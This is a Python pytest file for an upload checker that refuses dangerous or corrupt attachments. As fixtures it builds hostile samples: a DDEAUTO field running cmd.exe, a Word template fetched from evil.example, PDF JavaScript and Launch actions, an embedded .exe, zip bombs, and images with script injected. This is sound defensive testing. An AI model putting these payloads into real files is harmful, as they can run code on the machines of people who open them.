"""文件检查 hostile and broken attachments are refused with the reason; sound ones are not (R31, R34)."""

import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from PIL import Image

from models.platform.file_soundness import MOST_PIXELS, require_sound
from models.platform.file_types import DOC, DOCX, JPEG, PDF, PNG, XLSX, FileType, UnreadableError
from tests.platform import files

TEMPLATE = (
    '<Relationships><Relationship Id="r1" TargetMode="External" Target="http://evil.example/a.dotm"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
)
LINK = (
    '<Relationships><Relationship Id="r1" TargetMode="External" Target="https://www.example.cn/"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>'
)
DDE = "<w:p><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe </w:instrText></w:r></w:p>"


def pdf_with(catalog: str) -> bytes:
    """A PDF of one empty page whose catalogue holds something more."""
    objects = [
        f"<</Type/Catalog/Pages 2 0 R{catalog}>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>",
    ]
    made, places = b"%PDF-1.7\n", []
    for number, text in enumerate(objects, 1):
        places.append(len(made))
        made += f"{number} 0 obj{text}endobj\n".encode()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    tail = f"xref\n0 4\n0000000000 65535 f \n{table}trailer<</Size 4/Root 1 0 R>>\nstartxref\n{len(made)}\n%%EOF\n"
    return made + tail.encode()


def bomb(kind: str) -> bytes:
    """A package whose one part unpacks to more than may be."""
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(f"{kind}/document.xml", b"0" * (220 << 20))
    return made.getvalue()


def twice_named() -> bytes:
    made = BytesIO()
    with zipfile.ZipFile(made, "w") as package:
        package.writestr("word/document.xml", "<x/>")
        with pytest.warns(UserWarning, match="Duplicate name"):
            package.writestr("word/document.xml", "<y/>")
    return made.getvalue()


def huge_picture() -> bytes:
    """12,000 pixels square in a few kilobytes."""
    made = BytesIO()
    Image.new("1", (12_000, 12_000)).save(made, "PNG", optimize=False)
    assert MOST_PIXELS < 12_000**2
    return made.getvalue()


HOSTILE = [
    (JPEG, files.picture("JPEG", size=(900, 900))[:-400], "图片不完整或已损坏"),
    (JPEG, files.JPEG[:30], "图片不完整或已损坏"),
    (JPEG, b"\xff\xd8\xff" + b"\x00" * 500, "图片不完整或已损坏"),
    (PNG, files.PNG[:40], "图片不完整或已损坏"),
    (PNG, huge_picture(), "过大，请缩小后重新上传"),
    (JPEG, files.JPEG + files.package("a.txt"), "夹带了其他内容"),
    (PNG, files.PNG + files.package("a.txt"), "夹带了其他内容"),
    (PDF, files.PDF + files.package("a.txt"), "夹带了其他内容"),
    (JPEG, files.JPEG[:4] + b"<script>alert(1)</script>" + files.JPEG[4:], "夹带了其他内容"),
    (PNG, files.PNG[:33] + b"<SVG onload=alert(1)>" + files.PNG[33:], "夹带了其他内容"),
    (PDF, b"%PDF-1.7\nnothing at all\n%%EOF", "PDF 已损坏"),
    (PDF, files.PDF[:60], "PDF 已损坏"),
    (
        PDF,
        pdf_with(
            "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(1)>>]>>>>"
        ),
        "带有脚本",
    ),
    (PDF, pdf_with("/OpenAction<</S/Launch/F(cmd.exe)>>"), "会打开其他程序"),
    (PDF, pdf_with("/Names<</EmbeddedFiles<</Names[(a.exe)<</F(a.exe)/EF<<>>>>]>>>>"), "夹带了其他文件"),
    (DOCX, bomb("word"), "解开后过大"),
    (DOCX, twice_named(), "文件结构异常"),
    (
        DOCX,
        files.package_of({"word/document.xml": "<x/>", "word/_rels/settings.xml.rels": TEMPLATE}),
        "链接了外部的模板",
    ),
    (
        XLSX,
        files.package_of({"xl/_rels/a.rels": TEMPLATE.replace("attachedTemplate", "externalLinkPath")}),
        "链接了外部",
    ),
    (DOCX, files.package_of({"word/document.xml": DDE}), "自动运行的内容"),
    (
        XLSX,
        files.package_of(
            {"xl/externalLinks/e1.xml": "<externalLink><ddeLink ddeService='cmd'/></externalLink>"}
        ),
        "自动运行",
    ),
    (
        DOCX,
        files.package_of({"[Content_Types].xml": "application/vnd.ms-word.document.macroEnabled.main+xml"}),
        "带有宏",
    ),
    (DOCX, files.DOCX.replace(b"<x/>", b"<y/>"), "已损坏"),
]


@pytest.mark.parametrize(("kind", "content", "told"), HOSTILE)
def test_what_could_do_harm_or_cannot_be_opened_is_refused(
    tmp_path: Path, kind: FileType, content: bytes, told: str
) -> None:
    path = tmp_path / "a"
    path.write_bytes(content)
    with pytest.raises(UnreadableError, match=told):
        require_sound(path, kind)


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        (JPEG, files.JPEG),
        (JPEG, files.JPEG + b"\x00" * 5000),
        (PNG, files.PNG),
        (PDF, files.PDF),
        (PDF, pdf_with("/Lang(zh-CN)")),
        (DOC, files.DOC),
        (DOCX, files.DOCX),
        (XLSX, files.XLSX),
        (DOCX, files.package_of({"word/document.xml": "<t>DDE 是一种旧协议</t>", "word/_rels/a.rels": LINK})),
    ],
)
def test_a_sound_file_passes(tmp_path: Path, kind: FileType, content: bytes) -> None:
    path = tmp_path / "a"
    path.write_bytes(content)
    require_sound(path, kind)
